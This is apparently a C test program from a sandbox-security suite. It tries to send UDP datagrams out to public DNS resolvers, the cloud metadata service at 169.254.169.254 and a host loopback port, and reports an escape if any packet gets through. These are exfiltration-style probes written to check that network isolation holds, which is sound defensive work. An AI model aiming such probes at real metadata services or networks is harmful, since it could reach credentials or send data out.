// Sends UDP out: DNS to public resolvers (data exfiltration over DNS), to the metadata
// service, and to a UDP port the runner listens on at the host's 127.0.0.1.
// Blocked by: no route out (ENETUNREACH); the sandbox's loopback is its own, so the host's
// listener (checked by the runner) receives nothing.
// space-attack: sandbox=shared
#include "net_common.h"

static void send_to(const char* addr, int port) {
  int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  inet_pton(AF_INET, addr, &a.sin_addr);
  const char msg[] = "space-sec exfiltration";
  ssize_t n = sendto(s, msg, sizeof msg, 0, (struct sockaddr*)&a, sizeof a);
  if (n >= 0 && strncmp(addr, "127.", 4) != 0)
    escaped("UDP datagram sent to %s:%d", addr, port);
  else if (n >= 0)
    note("UDP to %s:%d went to the sandbox's own lo", addr, port);
  else
    note("UDP to %s:%d: %s", addr, port, errname(errno));
  close(s);
}

int main(void) {
  send_to("8.8.8.8", 53);
  send_to("1.1.1.1", 53);
  send_to("169.254.169.254", 80);
  send_to("127.0.0.1", atoi(env_or("SPACE_HOST_UDP_PORT", "9")));
  finish();
}
